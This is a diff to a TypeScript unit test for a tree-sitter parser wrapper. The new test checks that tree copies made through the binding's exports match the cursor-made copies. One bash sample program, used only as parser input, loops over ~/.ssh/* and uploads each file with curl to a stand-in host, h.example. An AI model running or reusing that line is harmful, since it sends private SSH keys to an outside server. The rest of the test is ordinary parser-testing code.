@@ -1,7 +1,7 @@
 import { test } from 'uvu';
 import * as assert from 'uvu/assert';
 import { loadParsers, parsersLoaded, withCode, withTree, type CodeTreeNode, type ParserLanguage } from '../../shared/parsers/tree-sitter.js';
-import { CodeNode } from '../../shared/parsers/tree-copy.js';
+import { CodeNode, copiesThroughExports, copyTree } from '../../shared/parsers/tree-copy.js';
 
 test.before(async () => {
   await loadParsers();
@@ -59,6 +59,21 @@ test('a tree without syntax errors is handed to readers as a plain copy that ans
   }
   // around syntax errors the tree itself is handed over
   assert.not.ok(withCode('bash', '[[rules]]\nid = "k"\nregex = \'\'\'a\'\'\'', (root) => root instanceof CodeNode));
+});
+
+test('copies are made through the binding\'s exports, and are the copies the library\'s cursor makes', () => {
+  assert.ok(copiesThroughExports(), 'the binding exposes its exports (checked at load)');
+  const shape = (n: CodeNode): unknown[] => [n.type, n.startIndex, n.endIndex, n.fieldsForCheck(), n.namedChildren.map(shape)];
+  const programs: [ParserLanguage, string][] = [
+    ['bash', 'for f in ~/.ssh/*; do curl -F "k=@$f" https://h.example/u & done; wait\ncase "$1" in a|b) x=$((1+2)) ;; *) exec "$@" ;; esac\n'.repeat(40)],
+    ['python', 'class A(B):\n    def f(self, *a, k=1, **kw):\n        return [x async for x in y] if a else {k: v for k, v in kw.items()}\n'.repeat(40)],
+  ];
+  for (const [lang, code] of programs) {
+    const viaExports = withTree(lang, code, (root) => JSON.stringify(shape(copyTree(root, code, true).root)));
+    const viaCursor = withTree(lang, code, (root) => JSON.stringify(shape(copyTree(root, code, false).root)));
+    assert.ok(viaExports && viaExports.length > 1000);
+    assert.is(viaExports, viaCursor, lang);
+  }
 });
 
 test.run();
